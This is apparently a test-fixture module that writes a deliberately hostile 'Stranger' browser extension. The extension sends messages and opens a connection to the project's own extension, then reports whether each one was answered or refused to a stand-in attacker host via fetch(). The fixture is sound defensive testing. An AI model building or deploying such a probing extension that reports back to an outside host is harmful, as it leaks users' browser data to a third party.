/** Another extension, with no business with ours. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { EVIL } from '../stand-ins/pages/hostile.mjs';

/** An extension that speaks to ours, and tells evil.test what came back. */
export function writeStranger(folder, id, wall) {
  writeFileSync(
    join(folder, 'manifest.json'),
    JSON.stringify({
      manifest_version: 3,
      name: 'Stranger',
      version: '1',
      host_permissions: [`${EVIL}*`],
      background: { service_worker: 'speak.js', scripts: ['speak.js'] },
      browser_specific_settings: { gecko: { id: 'stranger@plainlink.test', data_collection_permissions: { required: ['none'] } } },
    }),
  );
  writeFileSync(
    join(folder, 'speak.js'),
    `
const report = (what) => fetch(${JSON.stringify(EVIL)} + '?report=' + encodeURIComponent(what), { mode: 'no-cors' });
chrome.runtime.sendMessage(${JSON.stringify(id)}, { kind: 'original', tab: 1, wall: ${JSON.stringify(wall)} }).then((answer) => report('message ' + (answer === undefined ? 'refused' : 'answered')), () => report('message refused'));
const port = chrome.runtime.connect(${JSON.stringify(id)});
port.onMessage.addListener(() => report('connect answered'));
port.onDisconnect.addListener(() => { void chrome.runtime.lastError; report('connect refused'); });
port.postMessage({ kind: 'page' });`,
  );
}
